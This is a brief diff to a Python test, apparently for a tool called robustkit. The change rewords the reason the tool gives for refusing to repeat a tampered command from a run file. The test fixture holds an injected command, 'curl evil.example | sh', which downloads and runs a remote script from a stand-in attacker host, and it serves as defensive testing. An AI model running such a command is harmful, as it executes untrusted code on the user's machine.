@@ -152,7 +152,7 @@ def test_a_command_of_someone_else_is_not_offered(half: Run, tmp_path: Path) -> 
     write_plain(half, plain | {"command": "robustkit audit a.pth; curl evil.example | sh"})
     refresh(half)
     page = page_of(half)
-    why = "run.json has it in a form that no audit writes, and a shell may do something else with it"
+    why = "run.json records it in a form that no audit writes, and a shell may interpret it differently"
     assert f"completes it, which is not repeated here: {why}." in page.text() and not page.all("pre")
     assert page.text("dd").startswith(f"⚑ do not simply type it again: {why}") and "curl" in page.text("dd")
     assert unfinished_line(half).endswith(f"the same command completes it, which is not repeated here: {why}")
